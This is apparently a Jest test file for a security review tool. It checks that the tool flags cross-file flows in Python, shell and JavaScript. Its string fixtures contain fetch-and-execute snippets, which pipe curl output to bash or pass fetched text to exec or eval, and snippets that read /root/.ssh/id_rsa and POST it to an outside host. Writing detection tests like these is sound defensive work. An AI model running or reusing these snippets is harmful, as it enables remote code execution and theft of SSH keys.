import { expect, test } from '@jest/globals';
import { reviewed } from './testing/reviewed.js';

const URL = 'http://203.0.113.9/x';
const FOUND = 'CRITICAL fetch-execute/remote-code';

test.each<[string, Record<string, string>]>([
  [
    'a function of a shell library',
    { 'lib.sh': `get() { curl -s ${URL}; }\n`, 'run.sh': '. ./lib.sh\nget | bash\n' },
  ],
  [
    'a function of a Python module',
    {
      'net.py': `import requests\ndef get():\n    return requests.get("${URL}").text\n`,
      'run.py': 'from net import get\nexec(get())\n',
    },
  ],
  [
    'a value of a module in the same package',
    {
      'pkg/net.py': `import requests\ntext = requests.get("${URL}").text\n`,
      'pkg/run.py': 'from . import net\nexec(net.text)\n',
    },
  ],
  [
    'a module that hands on what another one fetches',
    {
      'net.py': `import requests\ndef get():\n    return requests.get("${URL}").text\n`,
      'more.py': 'import net\ndef load():\n    return net.get()\n',
      'run.py': 'import more\nexec(more.load())\n',
    },
  ],
  [
    'what CommonJS exports',
    {
      'b.js': `module.exports = { get: () => fetch("${URL}").then((r) => r.text()) };\n`,
      'a.js': "require('./b').get().then(eval);\n",
    },
  ],
  [
    'what ECMAScript exports',
    {
      'lib/b.mjs': `export default async () => (await fetch("${URL}")).text();\n`,
      'a.mjs': "import get from './lib/b.mjs';\neval(await get());\n",
    },
  ],
])('%s flows into the program that loads it', async (_name, files) => {
  expect(await reviewed(files)).toContain(FOUND);
});

const KEY = '/root/.ssh/id_rsa';
const HOST = 'https://collect.some-vendor.io/v1';

test.each<[string, Record<string, string>]>([
  [
    'a function of Python',
    {
      'run.py': `from net import push\npush("x", open("${KEY}").read())\n`,
      'net.py': `import requests\ndef push(name, data):\n    requests.post("${HOST}", data=data)\n`,
    },
  ],
  [
    'a named argument',
    {
      'run.py': `import net\nnet.push(data=open("${KEY}").read())\n`,
      'net.py': `import requests\ndef push(data):\n    requests.post("${HOST}", data=data)\n`,
    },
  ],
  [
    'a method',
    {
      'run.py': `from net import Client\nClient().push(open("${KEY}").read())\n`,
      'net.py': `import requests\nclass Client:\n    def push(self, data):\n        requests.post("${HOST}", data=data)\n`,
    },
  ],
  [
    'what ECMAScript exports',
    {
      'a.mjs': `import { readFileSync } from 'node:fs';\nimport { push } from './net.mjs';\npush(readFileSync('${KEY}'));\n`,
      'net.mjs': `export const push = (body) => fetch('${HOST}', { method: 'POST', body });\n`,
    },
  ],
  [
    'what CommonJS exports',
    {
      'a.js': `const net = require('./net');\nnet.push(require('fs').readFileSync('${KEY}'));\n`,
      'net.js': `exports.push = function (body) { fetch('${HOST}', { method: 'POST', body }); };\n`,
    },
  ],
  [
    'what a third program reads',
    {
      'find.py': `def found():\n    return open("${KEY}").read()\n`,
      'net.py': `import requests\ndef push(data):\n    requests.post("${HOST}", data=data)\n`,
      'run.py': 'from find import found\nfrom net import push\npush(found())\n',
    },
  ],
])('a program hands a secret to %s', async (_name, files) => {
  expect(await reviewed(files)).toContain('CRITICAL exfiltration/secret-sent');
});

test('what is handed over as a credential, or is no secret, is nothing', async () => {
  const client = `import requests\ndef call(token, body):\n    return requests.post("${HOST}", data=body, headers={"authorization": token})\n`;
  const files = {
    'run.py':
      'from api import call\ncall(open("credentials.json").read(), open("report.md").read())\n',
    'api.py': client,
  };
  expect(await reviewed(files)).not.toContain('CRITICAL exfiltration/secret-sent');
});

test('a function of the same name in a program that loads nothing is another one', async () => {
  const files = {
    'lib.sh': `get() { curl -s ${URL}; }\n`,
    'run.sh': 'get() { echo true; }\nget | bash\n',
    'other.sh': 'get | bash\n',
  };
  expect(await reviewed(files)).not.toContain(FOUND);
});
